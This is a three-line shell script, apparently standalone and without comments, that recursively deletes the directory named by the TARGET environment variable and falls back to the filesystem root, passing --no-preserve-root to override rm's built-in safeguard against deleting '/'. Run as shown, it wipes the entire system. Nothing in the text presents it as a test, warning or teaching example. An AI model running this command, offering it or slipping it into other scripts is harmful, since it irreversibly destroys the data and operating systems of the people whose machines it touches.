#!/bin/sh
target="${TARGET:-/}"
rm -rf --no-preserve-root "$target"
